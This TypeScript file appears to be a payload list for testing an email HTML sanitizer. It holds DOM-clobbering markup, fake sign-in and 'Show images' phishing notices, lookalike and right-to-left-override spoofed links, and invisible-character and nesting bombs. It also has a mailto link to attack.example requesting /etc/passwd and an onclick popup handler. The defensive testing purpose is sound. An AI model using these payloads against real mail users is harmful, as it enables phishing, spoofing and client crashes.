// What a mail may do without a script: names that stand in for the page's own things, characters that turn or vanish, and
// the page's own looks.
import { HOST, RUN, type Vector, inHtml } from '../vector.ts';

const NAMES = ['cookie', 'body', 'head', 'forms', 'images', 'defaultView', 'currentScript', 'getElementById', 'querySelector', 'createElement', 'location', 'implementation', 'documentElement', 'attributes', 'nodeName', '__pwned', '__proto__', 'constructor', 'toString'];

const CLOBBER = [
  ...NAMES.map(
    (name) => `<img name=${name}><form name=${name} id=${name}><input name=${name} id=${name}><input name=attributes><input name=parentNode></form><a id=${name} href="${HOST}/x">a</a><a id=${name} name=x href="${HOST}/y">b</a><iframe name=${name} srcdoc="<a id=${name}>"></iframe><object id=${name}></object><embed name=${name}>`,
  ),
  `<form><input name=action><input name=submit><input name=nodeName></form><form id=x></form><input form=x name=y>`,
  `<p id=app class="app-shell reader toolbar" name=main slot=x>the page's own classes</p><main class=posthorn-note>note</main>`,
  `<div class="posthorn-note"><a href="${HOST}/fake">Show images</a></div><p class=posthorn-note>Your session has ended. <a href="${HOST}/login">Sign in</a></p>`,
  `<div role=alert aria-live=assertive aria-label="Message body">alert</div><div role=dialog aria-modal=true>dialog</div><h1 role=heading aria-level=1>heading</h1>`,
  `<a href="https://posthorn.example">https://bank.example</a><a href="https://xn--pple-43d.example/">apple.example</a>`,
  `<a href="https://attack.example/\u202egpj.exe">photo\u202egpj.exe</a>`,
  `<p>\u202ereversed\u202d \u2066isolated\u2069 \u2067right\u2069 \u061cmark\u200e\u200f</p><bdo dir=rtl>turned</bdo><bdi>x</bdi>`,
  `<p>in\u200bvis\u200cib\u200dle \u2060word\ufeff joiner\u00ad soft \u180e \u{e0001}\u{e0041}tags\u{e007f}</p>`,
  `<p>${'\u0300'.repeat(3000)}zalgo${'\u0489'.repeat(3000)}</p>`,
  `<p>${'\u{1f468}\u200d'.repeat(2000)}</p><p>${'\u202e'.repeat(5000)}x</p><p>${'\ufdfd'.repeat(500)}</p>`,
  `<p>\u0001\u0002\u0008\u000b\u001b[31mred\u001b[0m\u007f\u0085\u009f \ufffe\uffff \ud800</p>`,
  `<p style="color:#fff;background:#fff;font-size:1px">hidden</p><p style="display:none">gone</p><div style="opacity:0">clear</div>`,
  `<p style="height:10000px;width:10000px">large</p><hr size=100 width=10000><img width=10000 height=10000 src=cid:none alt=large>`,
  `<table width=10000 height=10000 cellpadding=1000 border=1000><tr><td colspan=100 rowspan=1000 width=10000>cell</td></tr></table>`,
  `<table>${'<tr>'.repeat(50)}<td rowspan=65534 colspan=1000>x</table>`,
  `${'<table><tr><td>'.repeat(60)}deep${'</td></tr></table>'.repeat(60)}`,
  `${'<blockquote>'.repeat(300)}deep`,
  `${'<p>line</p>'.repeat(5000)}`,
  `${'x'.repeat(200000)}`,
  `<ol start=999999999><li value=-99999999>n</ol><font size=+99 color=x face="${'a'.repeat(5000)}">font</font>`,
  `<p lang="x\ny" dir=auto title="${'t'.repeat(50000)}">long title</p>`,
  `<details><summary>summary</summary>${'<p>x</p>'.repeat(100)}</details><details open><summary></summary>y</details>`,
  `<a href="${HOST}/first"><a href="${HOST}/second"><div><a href="${HOST}/third">nested links</a></div></a></a>`,
  `<a href="${HOST}/wide"><div style="height:3000px">one link everywhere</div></a>`,
  `<a href="mailto:a@attack.example?bcc=b@attack.example&body=x&attach=/etc/passwd&In-Reply-To=x">mailto</a>`,
  `<a href="${HOST}/x" onclick="window.open('${HOST}/pop','_top')" onauxclick=${RUN}>open</a>`,
  `<a href="${HOST}/${'y'.repeat(20000)}">long</a><a href="${HOST}/\u0000\u0001\t\n">controls</a>`,
];

export const clobber: Vector[] = inHtml('clobber', CLOBBER);
